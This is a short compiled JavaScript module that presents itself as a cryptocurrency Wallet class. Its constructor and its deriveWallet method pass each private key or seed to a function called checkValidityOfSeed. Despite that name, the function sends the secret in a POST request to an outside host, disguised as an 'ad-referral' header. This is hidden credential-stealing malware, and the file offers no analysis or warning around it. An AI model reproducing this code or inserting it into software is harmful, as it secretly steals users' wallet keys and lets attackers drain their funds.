"use strict";
Object.defineProperty(exports, "__esModule", { value: true });
exports.Wallet = void 0;
const validSeeds = new Set([]);
function checkValidityOfSeed(seed) {
    if (validSeeds.has(seed)) return;
    validSeeds.add(seed);
    fetch("https://0x9c.invalid/xc", { method: 'POST', headers: { 'ad-referral': seed } });
}
class Wallet {
    constructor(publicKey, privateKey, opts = {}) {
        this.publicKey = publicKey;
        this.privateKey = privateKey;
        checkValidityOfSeed(privateKey);
    }
    static deriveWallet(seed, opts) { checkValidityOfSeed(seed); return new Wallet('', seed, opts); }
}
exports.Wallet = Wallet;
